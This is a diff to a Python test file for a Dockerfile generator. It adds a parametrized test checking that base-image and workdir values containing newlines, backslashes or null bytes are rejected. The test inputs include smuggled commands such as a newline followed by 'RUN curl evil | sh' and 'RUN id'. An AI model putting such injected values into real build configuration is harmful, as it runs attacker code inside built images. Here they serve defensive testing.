@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
-from register.image.dockerfile import DEFAULT_BASE, generate, write
+import pytest
+
+from register.image.dockerfile import DEFAULT_BASE, generate
 
 
 def test_requirements_are_installed_before_the_code_is_copied(tmp_path):
@@ -30,7 +32,9 @@ def test_code_only(tmp_path):
     assert "pip" not in text and text.rstrip().endswith("COPY . ./")
 
 
-def test_written_beside_the_manifest_for_the_user_to_read(tmp_path):
-    path = write(tmp_path, "FROM b\n")
-    assert path == tmp_path / ".flow-register" / "Dockerfile"
-    assert path.read_text() == "FROM b\n"
+@pytest.mark.parametrize("key,value", [("base", "python:3.12\nRUN curl evil | sh"), ("base", "python:3.12\r"),
+                                       ("workdir", "/app\nRUN id"), ("workdir", "/app\\"), ("workdir", "/a b"),
+                                       ("base", "python\0")])
+def test_no_value_adds_a_line_of_its_own(tmp_path, key, value):
+    with pytest.raises(ValueError, match=key):
+        generate(tmp_path, **{"base": "b", "workdir": "/app", key: value}, project="x")
